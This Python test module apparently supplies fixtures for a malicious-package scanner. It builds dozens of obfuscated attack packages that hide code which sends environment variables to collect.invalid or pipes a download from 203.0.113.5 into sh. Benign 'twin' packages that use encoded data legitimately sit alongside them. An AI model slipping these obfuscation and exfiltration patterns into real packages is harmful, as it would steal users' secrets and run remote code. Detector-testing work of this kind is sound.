# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Harm that hides: encoded, split, computed, in data files, behind the edge of the screen; and honest encoded data."""

from __future__ import annotations

import base64
import bz2
import codecs
import io
import json
import lzma
import marshal
import zipfile
import zlib

from cryptography.fernet import Fernet
from scenario_kit import SETUP, module, sdist, wheel

PLAIN = "import os, requests\nrequests.post('https://collect.invalid/v1', json=dict(os.environ))\n"
"""What most hidden layers hold: the inert attack that every other theme uses."""
RAW = PLAIN.encode()
B64 = base64.b64encode(RAW).decode()
ZB64 = base64.b64encode(zlib.compress(RAW)).decode()
HEXED = RAW.hex()
REVERSED = B64[::-1]
ROT13 = codecs.encode(PLAIN, "rot13")
B85 = base64.b85encode(lzma.compress(RAW)).decode()
XOR = bytes(byte ^ 0x2A for byte in RAW)
XOR_KEY = bytes(byte ^ b"k3y"[at % 3] for at, byte in enumerate(RAW))
ADDED = [ord(char) + 7 for char in PLAIN]
# Marshal bytes are made from this file's own constant and only ever read as data.
MARSHALLED = marshal.dumps(compile(PLAIN, "x", "exec"))
NUMBER = int.from_bytes(RAW, "big")
FERNET_KEY = base64.urlsafe_b64encode(bytes(32))
FERNET = Fernet(FERNET_KEY)._encrypt_from_parts(RAW, 0, bytes(16))


def nested(depth: int) -> str:
    """Wrap the payload in so many layers of zlib, base64 and reversal."""
    source = PLAIN
    for _ in range(depth):
        blob = base64.b64encode(zlib.compress(source.encode()))[::-1].decode()
        source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}'[::-1])))\n"
    return source


def png(trailing: bytes) -> bytes:
    """Return a one-pixel PNG with bytes behind its end."""
    pixel = base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
    return pixel + trailing


def zipped(files: dict[str, str]) -> bytes:
    """Return a zip of text files."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, source in files.items():
            archive.writestr(name, source)
    return packed.getvalue()


ATTACKS = [
    module("base64-exec", "look", f"import base64\nexec(base64.b64decode('{B64}'))\n"),
    module("base64-aliased", "look", f"from base64 import b64decode as d\ne = exec\ne(d('{B64}').decode('utf-8'))\n"),
    module(
        "zlib-base64-lambda",
        "look",
        f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{ZB64[::-1]}'))\n",
    ),
    module("hex-fromhex", "look", f"exec(bytes.fromhex('{HEXED}').decode())\n"),
    module("reversed-string", "look", f"import base64\nx = '{REVERSED}'\nexec(base64.b64decode(x[::-1]))\n"),
    module("rot13", "look", f"import codecs\nexec(codecs.decode({ROT13!r}, 'rot_13'))\n"),
    module("b85-lzma", "look", f"import base64, lzma\nexec(lzma.decompress(base64.b85decode({B85!r})))\n"),
    module(
        "bz2-bytes-literal",
        "look",
        f"import bz2\neval(compile(bz2.decompress({bz2.compress(RAW)!r}), '<s>', 'exec'))\n",
    ),
    module("xor-comprehension", "look", f"exec(bytes(b ^ 42 for b in {XOR!r}))\n"),
    module(
        "xor-loop-with-key",
        "look",
        f"""
        def _d(data, key):
            out = bytearray()
            for i in range(len(data)):
                out.append(data[i] ^ key[i % len(key)])
            return bytes(out)
        exec(_d({XOR_KEY!r}, b"k3y").decode())
        """,
    ),
    module("chr-list-join", "look", f"exec(''.join(chr(c) for c in {[ord(c) for c in PLAIN]}))\n"),
    module("chr-list-map-shift", "look", f"exec(''.join(map(lambda c: chr(c - 7), {ADDED})))\n"),
    module("integer-to-bytes", "look", f"n = {NUMBER}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big'))\n"),
    module("marshal-loads", "look", f"import marshal\nexec(marshal.loads({MARSHALLED!r}))\n"),
    module(
        "marshal-zlib-base64",
        "look",
        f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(MARSHALLED)).decode()}'))))\n",
    ),
    module("twelve-layers", "look", nested(12)),
    module("fifty-layers", "look", nested(50)),
    module(
        "string-table-with-index",
        "look",
        """
        _t = ["post", "environ", "requests", "os", "https://collect.invalid/v1", "json"]
        def _(i):
            return _t[i]
        getattr(__import__(_(2)), _(0))(_(4), **{_(5): dict(getattr(__import__(_(3)), _(1)))})
        """,
    ),
    module(
        "rotated-string-table",
        "look",
        """
        _t = ["environ", "requests", "os", "https://collect.invalid/v1", "post"]
        (lambda a, n: [a.append(a.pop(0)) for _ in range(n)])(_t, 3)
        _g = lambda i: _t[i - 0x10]
        getattr(__import__(_g(0x13)), _g(0x11))(_g(0x10), data=str(dict(getattr(__import__(_g(0x14)), _g(0x12)))))
        """,
    ),
    module(
        "getattr-builtins",
        "look",
        f"import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(getattr(base64, 'b64' + 'decode')('{B64}'))\n",
    ),
    module("builtins-dict", "look", f"__builtins__.__dict__['cexe'[::-1]](__import__('base64').b64decode('{B64}'))\n"),
    module(
        "globals-lookup", "look", f"globals()['__builtins__']['exec'](__import__('codecs').decode('{HEXED}', 'hex'))\n"
    ),
    module(
        "subclasses-walk",
        "look",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('curl http://203.0.113.5/x|sh', shell=True)\n",
    ),
    module(
        "import-with-joined-name",
        "look",
        "m = __import__(''.join(['o', 's']))\ngetattr(m, 'sys' + 'tem')('curl -s http://203.0.113.5/x | sh')\n",
    ),
    module(
        "vars-and-operator",
        "look",
        "import operator, sys, subprocess\noperator.methodcaller('call', 'curl -s http://203.0.113.5/x | sh', shell=True)(sys.modules['subprocess'])\n",
    ),
    module(
        "fernet-key-in-file",
        "look",
        f"from cryptography.fernet import Fernet\nexec(Fernet({FERNET_KEY!r}).decrypt({FERNET!r}))\n",
    ),
    module(
        "cipher-with-key-from-elsewhere",
        "look",
        f"""
        import os
        from cryptography.fernet import Fernet
        exec(Fernet(os.environ.get("LANG_KEY", "").encode()).decrypt({FERNET!r}))
        """,
    ),
    module(
        "aes-with-hard-coded-key",
        "look",
        """
        import base64
        from Crypto.Cipher import AES
        c = AES.new(b"0123456789abcdef", AES.MODE_CBC, b"abcdef0123456789")
        exec(c.decrypt(base64.b64decode("q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJA=")).rstrip(b"\\0"))
        """,
    ),
    module(
        "split-over-variables",
        "look",
        f"""
        import base64
        a = "{B64[:30]}"
        b = "{B64[30:60]}"
        c = "{B64[60:]}"
        d = a
        d += b
        d = "%s%s" % (d, c)
        exec(compile(base64.b64decode(d), "", "exec"))
        """,
    ),
    wheel(
        "split-over-modules",
        "look",
        {
            "acme/__init__.py": "from . import loader\n",
            "acme/alpha.py": f"PART = '{B64[:40]}'\n",
            "acme/beta.py": f"PART = '{B64[40:80]}'\n",
            "acme/gamma.py": f"PART = '{B64[80:]}'\n",
            "acme/loader.py": """
            import base64
            from . import alpha, beta, gamma
            exec(base64.b64decode(alpha.PART + beta.PART + gamma.PART))
            """,
        },
    ),
    wheel(
        "decoder-in-another-module",
        "look",
        {
            "acme/__init__.py": f"from ._codec import run\nrun('{ZB64}')\n",
            "acme/_codec.py": """
            import base64, zlib
            def unpack(text):
                return zlib.decompress(base64.b64decode(text))
            def run(text):
                exec(unpack(text), {})
            """,
        },
    ),
    wheel(
        "payload-in-json-data",
        "look",
        {
            "acme/__init__.py": """
            import base64, json, os
            with open(os.path.join(os.path.dirname(__file__), "data", "locale.json")) as f:
                table = json.load(f)
            exec(base64.b64decode(table["en"]["footer"]))
            """,
            "acme/data/locale.json": json.dumps({"en": {"title": "Acme", "footer": B64}}),
        },
    ),
    wheel(
        "payload-in-png-trailer",
        "look",
        {
            "acme/__init__.py": """
            import pkgutil, zlib
            data = pkgutil.get_data(__name__, "logo.png")
            exec(zlib.decompress(data[data.index(b"IEND") + 8:]))
            """,
            "acme/logo.png": png(zlib.compress(RAW)),
        },
    ),
    wheel(
        "payload-in-wav",
        "look",
        {
            "acme/__init__.py": """
            import os, wave
            w = wave.open(os.path.join(os.path.dirname(__file__), "ding.wav"))
            exec(bytes(b ^ 42 for b in w.readframes(w.getnframes())))
            """,
            "acme/ding.wav": b"RIFF\x24\x01\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x40\x1f\x00\x00\x01\x00\x08\x00data"
            + len(XOR).to_bytes(4, "little")
            + XOR,
        },
    ),
    wheel(
        "payload-in-text-by-importlib-resources",
        "look",
        {
            "acme/__init__.py": """
            import base64
            from importlib.resources import files
            exec(base64.b64decode(files("acme").joinpath("LICENSES.txt").read_text().splitlines()[-1]))
            """,
            "acme/LICENSES.txt": f"MIT License\nPermission is granted\n{B64}\n",
        },
    ),
    wheel(
        "payload-in-whitespace",
        "look",
        {
            "acme/__init__.py": """
            import pathlib
            lines = pathlib.Path(__file__).with_name("README.txt").read_text().split("\\n")
            bits = "".join("1" if c == "\\t" else "0" for line in lines for c in line if c in " \\t")
            exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) // 8 * 8, 8)))
            """,
            "acme/README.txt": "\n".join("".join("\t" if bit == "1" else " " for bit in f"{byte:08b}") for byte in RAW),
        },
    ),
    wheel(
        "payload-in-docstring",
        "look",
        {
            "acme/__init__.py": f'''
            """Helpers.

            {B64}
            """
            import base64
            exec(base64.b64decode(__doc__.split()[1]))
            ''',
        },
    ),
    wheel(
        "pyarmor-like",
        "note",
        {
            "acme/__init__.py": "from acme_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000"
            + "\\x00\\x03\\x0b\\x91" * 40
            + "')\n",
            "acme_runtime/__init__.py": "from .pytransform import __pyarmor__\n",
            "acme_runtime/pytransform.so": b"\x7fELF\x02\x01\x01" + bytes(57),
        },
    ),
    module(
        "code-beyond-column-200",
        "look",
        "import os\nVERSION = '1.2.0'"
        + " " * 240
        + ";__import__('subprocess').Popen('curl -s http://203.0.113.5/x | sh', shell=True)\n",
    ),
    module(
        "bidi-control",
        "look",
        "import subprocess\nlevel = 'user'\nif level != 'user\u202e \u2066# check\u2069 \u2066':\n    subprocess.Popen('curl -s http://203.0.113.5/x | sh', shell=True)\n",
    ),
    module(
        "homoglyph-identifiers", "look", "import os as ｏｓ\nｏｓ.ｓｙｓｔｅｍ('curl -s http://203.0.113.5/x | sh')\n"
    ),
    wheel(
        "utf-7-cookie",
        "look",
        {
            "acme/__init__.py": b"# coding: utf-7\n"
            + "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n".encode("utf-7")
        },
    ),
    wheel(
        "utf-7-hidden-newline",
        "look",
        {
            "acme/__init__.py": b"# coding: utf-7\nVERSION = 1 #+AAo-__import__('os').system('curl http://203.0.113.5/x +AHw- sh')\n"
        },
    ),
    wheel(
        "rot13-source-cookie",
        "look",
        {
            "acme/__init__.py": b"# coding: raw_unicode_escape\n#\\u000aimport os;os.system('curl -s http://203.0.113.5/x | sh')\n"
        },
    ),
    module(
        "form-feed-and-carriage-return",
        "look",
        "x = 1\n\x0c\nimport os #\ros.system('curl -s http://203.0.113.5/x | sh')\r\n",
    ),
    module(
        "trailing-code-after-many-blank-lines",
        "look",
        "VERSION = '1.2.0'\n" + "\n" * 3000 + "import os; os.system('curl -s http://203.0.113.5/x | sh')\n",
    ),
    wheel(
        "python-two-only-source",
        "look",
        {
            "acme/__init__.py": "import os\nprint 'hello'\nexec \"import os; os.system('curl -s http://203.0.113.5/x | sh')\"\n"
        },
    ),
    module(
        "syntax-of-the-future", "look", "import os\nlazy import json\nos.system('curl -s http://203.0.113.5/x | sh')\n"
    ),
    wheel(
        "nested-wheel-on-sys-path",
        "look",
        {
            "acme/__init__.py": """
            import os, sys
            sys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor", "deps.whl"))
            import hidden
            """,
            "acme/vendor/deps.whl": zipped({"hidden.py": PLAIN}),
        },
    ),
    wheel(
        "zipimport-of-shipped-archive",
        "look",
        {
            "acme/__init__.py": """
            import os, zipimport
            zipimport.zipimporter(os.path.join(os.path.dirname(__file__), "res.dat")).load_module("hidden")
            """,
            "acme/res.dat": zipped({"hidden.py": PLAIN}),
        },
    ),
    wheel(
        "runpy-of-data-file",
        "look",
        {
            "acme/__init__.py": "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'theme.txt'))\n",
            "acme/theme.txt": PLAIN,
        },
    ),
    wheel(
        "exec-of-shipped-text",
        "look",
        {
            "acme/__init__.py": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'theme.txt')).read())\n",
            "acme/theme.txt": PLAIN,
        },
    ),
    wheel(
        "bytecode-only-module",
        "look",
        {"acme/__init__.py": "from acme import core\n", "acme/core.pyc": b"\xa7\r\r\n" + bytes(12) + MARSHALLED},
    ),
    wheel(
        "pickle-with-reduce-shipped",
        "look",
        {
            "acme/__init__.py": "import os, pickle\nMODEL = pickle.load(open(os.path.join(os.path.dirname(__file__), 'model.pkl'), 'rb'))\n",
            "acme/model.pkl": b"cos\nsystem\n(S'curl -s http://203.0.113.5/x | sh'\ntR.",
        },
    ),
    module(
        "pickle-constant-with-reduce",
        "look",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'curl -s http://203.0.113.5/x | sh'\\ntR.\")\n",
    ),
    module(
        "url-from-pieces",
        "look",
        "import os, requests\nu = chr(104) + 'ttps:' + '/' * 2 + '.'.join(['collect', 'invalid'])\nrequests.post(u, json=dict(os.environ))\n",
    ),
    module(
        "python-dash-c-encoded",
        "look",
        f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode('{B64}'))\"])\n",
    ),
    module(
        "shell-with-base64",
        "look",
        f'import os\nos.system("echo {base64.b64encode(b"curl -s http://203.0.113.5/x | sh").decode()} | base64 -d | sh")\n',
    ),
    module(
        "powershell-encoded-command",
        "look",
        "import subprocess\nsubprocess.run(['powershell', '-NoP', '-W', 'Hidden', '-Enc', '"
        + base64.b64encode("iwr http://203.0.113.5/x | iex".encode("utf-16-le")).decode()
        + "'])\n",
    ),
    module(
        "node-dash-e",
        "look",
        "import subprocess\nsubprocess.Popen(['node', '-e', \"require('child_process').exec('curl http://203.0.113.5/x|sh')\"])\n",
    ),
    module(
        "types-functiontype",
        "look",
        f"import types, marshal, base64\ntypes.FunctionType(marshal.loads(base64.b64decode('{base64.b64encode(MARSHALLED).decode()}')), globals())()\n",
    ),
    module(
        "decorator-abuse-exec",
        "look",
        f"import base64\n@exec\n@base64.b64decode\n@(lambda f: '{B64}')\ndef _(): pass\n",
    ),
    module(
        "timeit-as-exec",
        "look",
        "import timeit\ntimeit.timeit(\"__import__('os').system('curl -s http://203.0.113.5/x | sh')\", number=1)\n",
    ),
    module(
        "logging-dictconfig-as-exec",
        "look",
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'curl -s http://203.0.113.5/x | sh'}}, 'root': {'handlers': ['h']}})\n",
    ),
    module(
        "code-interact",
        "look",
        f"import code, base64\ncode.InteractiveInterpreter().runsource(base64.b64decode('{B64}').decode(), symbol='exec')\n",
    ),
    wheel(
        "own-vm-over-table",
        "look",
        {
            "acme/__init__.py": """
            import importlib
            PROGRAM = [("load", "os"), ("attr", "system"), ("arg", "curl -s http://203.0.113.5/x | sh"), ("call",)]
            def run(program):
                stack = []
                for op, *arg in program:
                    if op == "load":
                        stack.append(importlib.import_module(arg[0]))
                    elif op == "attr":
                        stack.append(getattr(stack.pop(), arg[0]))
                    elif op == "arg":
                        stack.append(arg[0])
                    elif op == "call":
                        value = stack.pop()
                        stack.pop()(value)
            run(PROGRAM)
            """,
        },
    ),
]

TABLE = base64.b64encode(zlib.compress(json.dumps(list(range(2000))).encode())).decode()
ICON = base64.b64encode(png(b"")).decode()

TWINS = [
    module(
        "twin-icon-and-certificate",
        "quiet",
        f"import base64\nICON = base64.b64decode('{ICON}')\nCA = '''-----BEGIN CERTIFICATE-----\\n{TABLE[:640]}\\n-----END CERTIFICATE-----'''\n",
    ),
    module(
        "twin-compressed-lookup-table",
        "quiet",
        f"import base64, json, zlib\nTABLE = json.loads(zlib.decompress(base64.b64decode('{TABLE}')))\ndef lookup(i):\n    return TABLE[i]\n",
    ),
    module(
        "twin-namedtuple-codegen",
        "quiet",
        """
        _TEMPLATE = '''
        class {name}(tuple):
            __slots__ = ()
            def __new__(cls, {args}):
                return tuple.__new__(cls, ({args},))
        '''
        def record(name, fields):
            source = _TEMPLATE.replace("\\n        ", "\\n").format(name=name, args=", ".join(fields))
            scope = {"__name__": f"record_{name}"}
            exec(source, scope)
            return scope[name]
        Point = record("Point", ["x", "y"])
        """,
    ),
    module(
        "twin-dataclass-codegen",
        "quiet",
        """
        import linecache, sys
        def _create(name, args, body, *, globals=None, locals=None):
            locals = {} if locals is None else locals
            text = f"def __create__():\\n def {name}({', '.join(args)}):\\n" + "\\n".join(f"  {line}" for line in body) + f"\\n return {name}"
            filename = f"<generated {name}>"
            linecache.cache[filename] = (len(text), None, text.splitlines(True), filename)
            ns = {}
            exec(compile(text, filename, "exec"), globals or {}, ns)
            return ns["__create__"](**locals)
        def struct(cls):
            fields = list(cls.__annotations__)
            cls.__init__ = _create("__init__", ["self", *fields], [f"self.{f} = {f}" for f in fields])
            return cls
        @struct
        class Point:
            x: int
            y: int
        """,
    ),
    module(
        "twin-template-engine",
        "quiet",
        """
        import re
        class Template:
            def __init__(self, source):
                code = ["def render(context):", "    out = []"]
                for part in re.split(r"({{.*?}})", source):
                    if part.startswith("{{"):
                        code.append(f"    out.append(str({part[2:-2].strip()}))")
                    else:
                        code.append(f"    out.append({part!r})")
                code.append("    return ''.join(out)")
                scope = {}
                exec(compile("\\n".join(code), "<template>", "exec"), scope)
                self._render = scope["render"]
            def render(self, **context):
                return self._render(context)
        """,
    ),
    module(
        "twin-vendored-six",
        "quiet",
        """
        import sys, types, operator, functools
        PY3 = sys.version_info[0] == 3
        def _import_module(name):
            __import__(name)
            return sys.modules[name]
        class _LazyDescr(object):
            def __init__(self, name):
                self.name = name
            def __get__(self, obj, tp):
                result = self._resolve()
                setattr(obj, self.name, result)
                return result
        class MovedModule(_LazyDescr):
            def __init__(self, name, old, new=None):
                super(MovedModule, self).__init__(name)
                self.mod = new or name
            def _resolve(self):
                return _import_module(self.mod)
        class _Importer(object):
            def __init__(self, name):
                self.name, self.known_modules = name, {}
            def find_module(self, fullname, path=None):
                return self if fullname in self.known_modules else None
            def load_module(self, fullname):
                mod = self.known_modules[fullname]
                sys.modules[fullname] = mod
                return mod
        if PY3:
            import builtins
            exec_ = getattr(builtins, "exec")
        else:
            def exec_(_code_, _globs_=None, _locs_=None):
                exec("exec _code_ in _globs_, _locs_")
        sys.meta_path.append(_Importer(__name__))
        get_method_self = operator.attrgetter("__self__")
        """,
    ),
    module(
        "twin-getattr-dispatch",
        "quiet",
        """
        import importlib, os, sys
        class Commands:
            def dispatch(self, name, *args):
                handler = getattr(self, "do_" + name, None)
                if handler is None:
                    raise SystemExit(f"unknown command {name}")
                return handler(*args)
            def do_echo(self, *words):
                return " ".join(words)
        def backend(name=None):
            name = name or os.environ.get("ACME_BACKEND", "default")
            return importlib.import_module("acme.backends." + name)
        o = getattr(os, "O_BINARY", 0)
        run = getattr(sys.modules[__name__], "backend")
        """,
    ),
    wheel(
        "twin-model-pickle-loader",
        "quiet",
        {
            "acme/__init__.py": """
            import os, pickle
            def load():
                with open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb") as f:
                    return pickle.load(f)
            """,
            "acme/model.pkl": b"\x80\x03}q\x00(X\x01\x00\x00\x00aq\x01K\x01X\x01\x00\x00\x00bq\x02K\x02u.",
        },
    ),
    wheel(
        "twin-data-files-decoded",
        "quiet",
        {
            "acme/__init__.py": """
            import gzip, json, pkgutil
            def words():
                return gzip.decompress(pkgutil.get_data("acme", "words.gz")).decode().split()
            SCHEMA = json.loads(pkgutil.get_data("acme", "schema.json"))
            """,
            "acme/words.gz": zlib.compress(b"alpha beta gamma", wbits=31),
            "acme/schema.json": '{"type": "object"}',
        },
    ),
    sdist(
        "twin-setup-exec-of-version-file",
        "quiet",
        {
            "setup.py": """
            import os
            about = {}
            with open(os.path.join("acme", "__about__.py")) as f:
                exec(f.read(), about)
            from setuptools import setup
            setup(name="acme", version=about["__version__"], packages=["acme"])
            """,
            "acme/__about__.py": "__version__ = '1.2.0'\n",
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "twin-versioneer",
        "quiet",
        {
            "setup.py": "import versioneer\n"
            + SETUP.replace('version="1.2.0"', "version=versioneer.get_version(), cmdclass=versioneer.get_cmdclass()"),
            "versioneer.py": '''
            import base64, errno, json, os, re, subprocess, sys
            LONG_VERSION_PY = {"git": r"""
            import subprocess
            def run_command(commands, args, cwd=None):
                p = subprocess.Popen([commands[0]] + args, cwd=cwd, stdout=subprocess.PIPE)
                return p.communicate()[0].strip().decode()
            """}
            def run_command(commands, args, cwd=None, hide_stderr=False):
                for c in commands:
                    try:
                        p = subprocess.Popen([c] + args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE if hide_stderr else None)
                        break
                    except OSError as e:
                        if e.errno == errno.ENOENT:
                            continue
                        return None, None
                else:
                    return None, None
                stdout = p.communicate()[0].strip().decode()
                return stdout, p.returncode
            def get_version():
                out, code = run_command(["git", "git.cmd"], ["describe", "--tags", "--dirty", "--always"], hide_stderr=True)
                return (out or "0+unknown").lstrip("v")
            def get_cmdclass():
                from setuptools.command.build_py import build_py as _build_py
                class cmd_build_py(_build_py):
                    def run(self):
                        _build_py.run(self)
                        target = os.path.join(self.build_lib, "acme", "_version.py")
                        os.unlink(target)
                        with open(target, "w") as f:
                            f.write("version = %r\\n" % get_version())
                return {"build_py": cmd_build_py}
            ''',
            "acme/__init__.py": "",
        },
    ),
    module(
        "twin-encryption-helper",
        "quiet",
        """
        import base64, hashlib, os
        from cryptography.fernet import Fernet
        from Crypto.Cipher import AES
        def cipher(password, salt=b"acme"):
            key = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 100_000)
            return Fernet(base64.urlsafe_b64encode(key))
        def encrypt_file(path, password):
            data = open(path, "rb").read()
            with open(path + ".enc", "wb") as f:
                f.write(cipher(password).encrypt(data))
        def xor(data, key):
            return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))
        """,
    ),
    module(
        "twin-long-lines-and-unicode",
        "quiet",
        "DATA = ["
        + ", ".join(str(n) for n in range(400))
        + "]\nARABIC = '\u0645\u0631\u062d\u0628\u0627'\nRTL_MARK = '\\u200f'\nGREEK = {'\u03b1': 'alpha', '\u03b2': 'beta'}\n",
    ),
    wheel(
        "twin-latin-1-cookie",
        "quiet",
        {"acme/__init__.py": "# -*- coding: latin-1 -*-\nAUTHOR = 'J\xfcrgen'\n".encode("latin-1")},
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
